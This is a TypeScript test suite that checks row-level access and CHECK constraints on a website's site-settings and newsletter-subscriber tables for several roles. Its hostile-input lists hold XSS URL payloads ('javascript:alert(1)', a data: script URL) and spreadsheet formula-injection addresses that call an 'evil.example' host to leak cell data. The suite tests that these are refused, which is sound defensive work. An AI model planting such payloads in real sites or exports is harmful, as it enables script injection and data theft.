// design.md's matrix rows for site_settings (one row: everyone reads, admins update, nobody inserts
// or deletes) and newsletter_subscribers (everyone subscribes through one narrow RPC, nobody but
// admins reads), as anon, a signed-in visitor, an admin and the service role, with hostile input.
import { describe, expect, test } from "vitest";
import {
  allFields,
  settingsFromRow,
  settingsToRow,
} from "../../src/features/site-settings/api/columns";
import { siteSettingsSchema } from "../../src/features/site-settings/schemas";
import type { Queryable } from "../local/db/database";
import { admin, adminAtAal1, anon, serviceRole, visitor } from "./support/actors";
import { invalidAnswers } from "./support/answers";
import {
  applyFiles,
  attempt,
  backends,
  expectNoRowAffected,
  expectOwnerRefused,
  expectRefused,
  rolledBackIn,
  openEmptyDatabase,
  splitAtMigration,
  succeeded,
  useSeededDatabase,
} from "./support/database";

async function settingsRow(tx: Queryable): Promise<Record<string, unknown>> {
  const { rows } = await tx.query("select * from public.site_settings");
  expect(rows).toHaveLength(1);
  return rows[0] as Record<string, unknown>;
}

async function subscriberEmails(tx: Queryable): Promise<string[]> {
  const { rows } = await tx.query<{ email: string }>(
    "select email from public.newsletter_subscribers order by email",
  );
  return rows.map((row) => row.email);
}

/** A sign-up as the footer sends it: the one RPC, one address. */
const subscribe = (email: string, sourcePath = "/resources"): [string, unknown[]] => [
  "select public.subscribe_to_newsletter($1, $2)",
  [email, sourcePath],
];

/** The old path, a direct insert: what PostgREST's row count turned into an oracle. */
const insertDirectly = (email: string): [string, unknown[]] => [
  "insert into public.newsletter_subscribers (email, source_path) values ($1, '/')",
  [email],
];

describe.each(backends)("%s", (backend) => {
  const database = useSeededDatabase(backend);
  const rolledBack = rolledBackIn(database);

  describe("site_settings", () => {
    test(
      "the migration ships one row, which the admin's form takes and saves back as it is",
      rolledBack(async (tx) => {
        const row = await settingsRow(tx);
        expect(row.id).toBe(1);
        const settings = settingsFromRow(row, allFields);
        const parsed = siteSettingsSchema.safeParse(settings);
        expect(parsed.error?.issues ?? []).toEqual([]);
        expect(parsed.data).toEqual(settings);
        expect(row).toMatchObject(settingsToRow(settings));
      }),
    );

    const updateTagline =
      "update public.site_settings set company_tagline = 'Steady hands.' returning id";

    for (const actor of [anon, visitor, admin, serviceRole]) {
      test(
        `${actor.label} › select: reads the one row`,
        rolledBack(async (tx) => {
          const select = "select company_tagline, linkedin_url from public.site_settings";
          const { rows: asOwner } = await tx.query(select);
          expect(asOwner).toHaveLength(1);
          expect(succeeded(await attempt(tx, actor, select))).toEqual(asOwner);
        }),
      );
    }

    test(
      "anon › update: refused, nothing changes",
      rolledBack(async (tx) => {
        const before = await settingsRow(tx);
        expectRefused(await attempt(tx, anon, updateTagline));
        expect(await settingsRow(tx)).toEqual(before);
      }),
    );

    test(
      "visitor › update: no row to touch, nothing changes",
      rolledBack(async (tx) => {
        const before = await settingsRow(tx);
        expectNoRowAffected(await attempt(tx, visitor, updateTagline));
        expect(await settingsRow(tx)).toEqual(before);
      }),
    );

    test(
      "admin › update: saves, updated_at moves, the content history records it with the admin as actor",
      rolledBack(async (tx) => {
        const before = await settingsRow(tx);
        expect(succeeded(await attempt(tx, admin, updateTagline))).toEqual([{ id: 1 }]);
        const after = await settingsRow(tx);
        expect(after.company_tagline).toBe("Steady hands.");
        expect((after.updated_at as Date).getTime()).toBeGreaterThanOrEqual(
          (before.updated_at as Date).getTime(),
        );
        const { rows } = await tx.query<{ operation: string; actor: string; tagline: string }>(
          `select operation::text, actor::text, after ->> 'company_tagline' as tagline
           from public.content_history where table_name = 'site_settings' order by id desc limit 1`,
        );
        expect(rows).toEqual([
          { operation: "update", actor: admin.claims.sub, tagline: "Steady hands." },
        ]);
      }),
    );

    test(
      "admin › update of id: refused (only the form's columns are granted)",
      rolledBack(async (tx) => {
        expectRefused(await attempt(tx, admin, "update public.site_settings set id = 2"));
      }),
    );

    for (const actor of [anon, visitor, admin, serviceRole]) {
      test(
        `${actor.label} › insert a second row and delete: refused`,
        rolledBack(async (tx) => {
          expectRefused(
            await attempt(
              tx,
              actor,
              `insert into public.site_settings (id, site_name, site_description, company_tagline, copyright_text, newsletter_heading, newsletter_description)
               values (2, 'x', 'x', 'x', 'x', 'x', 'x')`,
            ),
          );
          expectRefused(await attempt(tx, actor, "delete from public.site_settings"));
          await settingsRow(tx);
        }),
      );
    }

    test(
      "the owner cannot add a second row (CHECK) or truncate (the content history would miss it)",
      rolledBack(async (tx) => {
        await expectOwnerRefused(
          tx,
          `insert into public.site_settings (id, site_name, site_description, company_tagline, copyright_text, newsletter_heading, newsletter_description)
           values (2, 'x', 'x', 'x', 'x', 'x', 'x')`,
          "23514",
        );
        await expectOwnerRefused(tx, "truncate public.site_settings");
      }),
    );

    const hostile: [string, string][] = [
      ["a javascript: LinkedIn URL", "linkedin_url = 'javascript:alert(1)'"],
      ["a data: Facebook URL", "facebook_url = 'data:text/html,<script>alert(1)</script>'"],
      ["a Twitter URL without a scheme", "twitter_url = 'x.com/firm'"],
      ["an empty tagline", "company_tagline = ''"],
      ["a blank site name", "site_name = '   '"],
      ["an empty copyright text", "copyright_text = ''"],
      ["an empty newsletter heading", "newsletter_heading = ''"],
      ["an empty newsletter description", "newsletter_description = ''"],
      ["an empty site description", "site_description = ''"],
      ["an oversized tagline", "company_tagline = repeat('a', 201)"],
      ["an oversized newsletter description", "newsletter_description = repeat('a', 501)"],
      ["an oversized Twitter handle", "twitter_handle = repeat('a', 51)"],
      ["an oversized URL", "linkedin_url = 'https://www.linkedin.com/' || repeat('a', 2048)"],
    ];
    for (const [what, assignment] of hostile) {
      test(
        `admin › update with ${what}: refused by a CHECK constraint`,
        rolledBack(async (tx) => {
          const before = await settingsRow(tx);
          expectRefused(
            await attempt(tx, admin, `update public.site_settings set ${assignment}`),
            "23514",
          );
          expect(await settingsRow(tx)).toEqual(before);
        }),
      );
    }

    test(
      "admin › empty social links are stored as null, and an http(s) URL is accepted",
      rolledBack(async (tx) => {
        succeeded(
          await attempt(
            tx,
            admin,
            "update public.site_settings set facebook_url = null, linkedin_url = 'https://www.linkedin.com/company/prairie-ledger'",
          ),
        );
        const after = await settingsRow(tx);
        expect([after.facebook_url, after.linkedin_url]).toEqual([
          null,
          "https://www.linkedin.com/company/prairie-ledger",
        ]);
      }),
    );
  });

  // The adviser's answers to the Marketing Rule check's warnings on the settings: kept with the
  // row (the answers domain), written with it by an admin at aal2, read by an admin at aal2 through
  // site_settings_answers() and by the build (the service role); not the public's.
  describe("site_settings.marketing_rule_answers", () => {
    const key = "superlative:companyTagline:leading";
    const answer = "Leading means the first adviser in Fargo to charge a flat fee.";
    const saveWithAnswers = (answers: unknown): [string, unknown[]] => [
      "update public.site_settings set company_tagline = 'The leading fiduciary in Fargo.', marketing_rule_answers = $1::jsonb returning id",
      [JSON.stringify(answers)],
    ];
    const answersOf = async (tx: Queryable) => (await settingsRow(tx)).marketing_rule_answers;
    const readAnswers = "select public.site_settings_answers() as answers";

    test(
      "the migration's row holds no answers",
      rolledBack(async (tx) => {
        expect(await answersOf(tx)).toEqual({});
      }),
    );

    test(
      "admin at aal2 › saves the words with their answers: stored, read back through site_settings_answers(), in the content history's entry",
      rolledBack(async (tx) => {
        expect(succeeded(await attempt(tx, admin, ...saveWithAnswers({ [key]: answer })))).toEqual([
          { id: 1 },
        ]);
        expect(await answersOf(tx)).toEqual({ [key]: answer });
        expect(succeeded(await attempt(tx, admin, readAnswers))).toEqual([
          { answers: { [key]: answer } },
        ]);
        const { rows } = await tx.query(
          `select after -> 'marketing_rule_answers' as answers, after ->> 'company_tagline' as tagline
           from public.content_history where table_name = 'site_settings' order by id desc limit 1`,
        );
        expect(rows).toEqual([
          { answers: { [key]: answer }, tagline: "The leading fiduciary in Fargo." },
        ]);
      }),
    );

    test(
      "admin at aal2 › the column itself is not selectable (only through the call); the public columns are",
      rolledBack(async (tx) => {
        expectRefused(
          await attempt(tx, admin, "select marketing_rule_answers from public.site_settings"),
          "42501",
        );
        expectRefused(await attempt(tx, admin, "select * from public.site_settings"), "42501");
        expect(
          succeeded(await attempt(tx, admin, "select site_name from public.site_settings")),
        ).toHaveLength(1);
      }),
    );

    test.each(invalidAnswers(key, answer))(
      "admin at aal2 › a save with %s is refused (23514): nothing changes",
      (_what, answers) =>
        rolledBack(async (tx) => {
          const before = await settingsRow(tx);
          expectRefused(await attempt(tx, admin, ...saveWithAnswers(answers)), "23514");
          expect(await settingsRow(tx)).toEqual(before);
        })(),
    );

    test(
      "anon › the answers neither read (column, whole row, call) nor written",
      rolledBack(async (tx) => {
        await tx.query(
          `update public.site_settings set marketing_rule_answers = '{"${key}": "${answer}"}'`,
        );
        expectRefused(
          await attempt(tx, anon, "select marketing_rule_answers from public.site_settings"),
          "42501",
        );
        expectRefused(await attempt(tx, anon, "select * from public.site_settings"), "42501");
        expectRefused(await attempt(tx, anon, readAnswers), "42501");
        expectRefused(await attempt(tx, anon, ...saveWithAnswers({})));
        expect(await answersOf(tx)).toEqual({ [key]: answer });
      }),
    );

    for (const actor of [visitor, adminAtAal1]) {
      test(
        `${actor.label} › the column refused, the call answers null, a save changes nothing`,
        rolledBack(async (tx) => {
          await tx.query(
            `update public.site_settings set marketing_rule_answers = '{"${key}": "${answer}"}'`,
          );
          const before = await settingsRow(tx);
          expectRefused(
            await attempt(tx, actor, "select marketing_rule_answers from public.site_settings"),
            "42501",
          );
          expectRefused(await attempt(tx, actor, "select * from public.site_settings"), "42501");
          expect(succeeded(await attempt(tx, actor, readAnswers))).toEqual([{ answers: null }]);
          expectNoRowAffected(await attempt(tx, actor, ...saveWithAnswers({})));
          expect(await settingsRow(tx)).toEqual(before);
        }),
      );
    }

    test(
      "service_role › reads the column and through the call (the build's snapshot carries them)",
      rolledBack(async (tx) => {
        succeeded(await attempt(tx, admin, ...saveWithAnswers({ [key]: answer })));
        expect(
          succeeded(
            await attempt(
              tx,
              serviceRole,
              "select marketing_rule_answers from public.site_settings",
            ),
          ),
        ).toEqual([{ marketing_rule_answers: { [key]: answer } }]);
        expect(succeeded(await attempt(tx, serviceRole, readAnswers))).toEqual([
          { answers: { [key]: answer } },
        ]);
        expect(
          succeeded(
            await attempt(
              tx,
              serviceRole,
              "select public.published_site_content() -> 'settings' -> 'marketing_rule_answers' as answers",
            ),
          ),
        ).toEqual([{ answers: { [key]: answer } }]);
      }),
    );
  });

  describe("newsletter_subscribers", () => {
    for (const actor of [anon, visitor, admin]) {
      test(
        `${actor.label} › subscribe: stored trimmed, with the page and the database's consent time`,
        rolledBack(async (tx) => {
          succeeded(await attempt(tx, actor, ...subscribe("  Reader@Example.com ")));
          const { rows } = await tx.query<{ email: string; source_path: string; now: boolean }>(
            "select email, source_path, consented_at = now() as now from public.newsletter_subscribers",
          );
          expect(rows).toEqual([
            { email: "Reader@Example.com", source_path: "/resources", now: true },
          ]);
        }),
      );

      test(
        `${actor.label} › insert into the table directly: refused (no privilege), nothing stored`,
        rolledBack(async (tx) => {
          expectRefused(await attempt(tx, actor, ...insertDirectly("reader@example.com")));
          expectRefused(
            await attempt(
              tx,
              actor,
              "insert into public.newsletter_subscribers (email, source_path, consented_at) values ('a@example.com', '/', '2020-01-01')",
            ),
          );
          expect(await subscriberEmails(tx)).toEqual([]);
        }),
      );
    }

    test(
      "anon › a new, a known and a differently cased address get the same answer; one row is stored",
      rolledBack(async (tx) => {
        const answers = [];
        for (const email of ["reader@example.com", "reader@example.com", "READER@example.com"]) {
          const outcome = await attempt(tx, anon, ...subscribe(email, "/"));
          answers.push(outcome.ok && { rows: outcome.rows, affectedRows: outcome.affectedRows });
        }
        expect(answers[0]).toBeTruthy();
        expect(answers).toEqual([answers[0], answers[0], answers[0]]);
        expect(await subscriberEmails(tx)).toEqual(["reader@example.com"]);
      }),
    );

    test(
      "anon › the sign-up takes no advisory lock, whatever the address",
      rolledBack(async (tx) => {
        succeeded(await attempt(tx, anon, ...subscribe("reader@example.com")));
        succeeded(await attempt(tx, anon, ...subscribe("reader@example.com")));
        const { rows } = await tx.query<{ n: number }>(
          "select count(*)::int as n from pg_locks where locktype = 'advisory' and pid = pg_backend_pid()",
        );
        expect(rows).toEqual([{ n: 0 }]);
      }),
    );

    const invalid: [string, string, string][] = [
      ["no @", "reader.example.com", "/"],
      ["no domain dot", "reader@example", "/"],
      ["a space", "rea der@example.com", "/"],
      ["an oversized address", `${"a".repeat(250)}@example.com`, "/"],
      ["a source that is not a path", "reader@example.com", "https://evil.example/"],
      ["an oversized source path", "reader@example.com", `/${"a".repeat(200)}`],
      ...["=", "+", "-", "@", "\t", "\r"].map((start): [string, string, string] => [
        `an address a spreadsheet would run (${JSON.stringify(start)}...)`,
        `${start}HYPERLINK("https://evil.example/?"&A3,"x@y.z")`,
        "/",
      ]),
      ["a formula that passes the address pattern", "=1+1@example.com", "/"],
    ];
    for (const [what, email, sourcePath] of invalid) {
      test(
        `anon › subscribe with ${what}: refused by a CHECK constraint`,
        rolledBack(async (tx) => {
          expectRefused(await attempt(tx, anon, ...subscribe(email, sourcePath)), "23514");
          expect(await subscriberEmails(tx)).toEqual([]);
        }),
      );
    }

    test("a project whose list already holds a formula-like address still migrates; the rule holds for every new row", async () => {
      const handle = await openEmptyDatabase(backend);
      try {
        const { before, migration, after } = await splitAtMigration(
          "_subscriber_email_not_a_formula.sql",
        );
        await applyFiles(handle.db, before);
        await handle.db.exec(
          "insert into public.newsletter_subscribers (email, source_path) values ('=1+1@example.com', '/')",
        );
        await applyFiles(handle.db, [migration, ...after]);
        expect(await subscriberEmails(handle.db)).toEqual(["=1+1@example.com"]);
        await expect(
          handle.db.query(
            "insert into public.newsletter_subscribers (email, source_path) values ('+1@example.com', '/')",
          ),
        ).rejects.toMatchObject({ code: "23514" });
      } finally {
        await handle.dispose();
      }
    });

    describe("with two subscribers", () => {
      const withSubscribers = (fn: (tx: Queryable) => Promise<void>) =>
        rolledBack(async (tx) => {
          await tx.query(
            "insert into public.newsletter_subscribers (email, source_path) values ('one@example.com', '/'), ('two@example.com', '/resources')",
          );
          await fn(tx);
        });

      test(
        "anon › select, update, delete: refused",
        withSubscribers(async (tx) => {
          expectRefused(await attempt(tx, anon, "select email from public.newsletter_subscribers"));
          expectRefused(
            await attempt(
              tx,
              anon,
              "update public.newsletter_subscribers set email = 'x@example.com'",
            ),
          );
          expectRefused(await attempt(tx, anon, "delete from public.newsletter_subscribers"));
          expect(await subscriberEmails(tx)).toEqual(["one@example.com", "two@example.com"]);
        }),
      );

      test(
        "visitor › select sees nobody; update and delete refused",
        withSubscribers(async (tx) => {
          expect(
            succeeded(
              await attempt(tx, visitor, "select email from public.newsletter_subscribers"),
            ),
          ).toEqual([]);
          expectRefused(
            await attempt(
              tx,
              visitor,
              "update public.newsletter_subscribers set email = 'x@example.com'",
            ),
          );
          expectRefused(await attempt(tx, visitor, "delete from public.newsletter_subscribers"));
          expect(await subscriberEmails(tx)).toEqual(["one@example.com", "two@example.com"]);
        }),
      );

      test(
        "admin › reads every subscriber; update and delete refused",
        withSubscribers(async (tx) => {
          const rows = succeeded(
            await attempt(
              tx,
              admin,
              "select email from public.newsletter_subscribers order by email",
            ),
          );
          expect(rows).toEqual([{ email: "one@example.com" }, { email: "two@example.com" }]);
          expectRefused(
            await attempt(
              tx,
              admin,
              "update public.newsletter_subscribers set email = 'x@example.com'",
            ),
          );
          expectRefused(await attempt(tx, admin, "delete from public.newsletter_subscribers"));
        }),
      );

      test(
        "service_role › reads and deletes (an unsubscribe request handled by staff)",
        withSubscribers(async (tx) => {
          expect(
            succeeded(
              await attempt(tx, serviceRole, "select email from public.newsletter_subscribers"),
            ),
          ).toHaveLength(2);
          succeeded(
            await attempt(
              tx,
              serviceRole,
              "delete from public.newsletter_subscribers where email = 'one@example.com'",
            ),
          );
          expect(await subscriberEmails(tx)).toEqual(["two@example.com"]);
        }),
      );
    });
  });
});
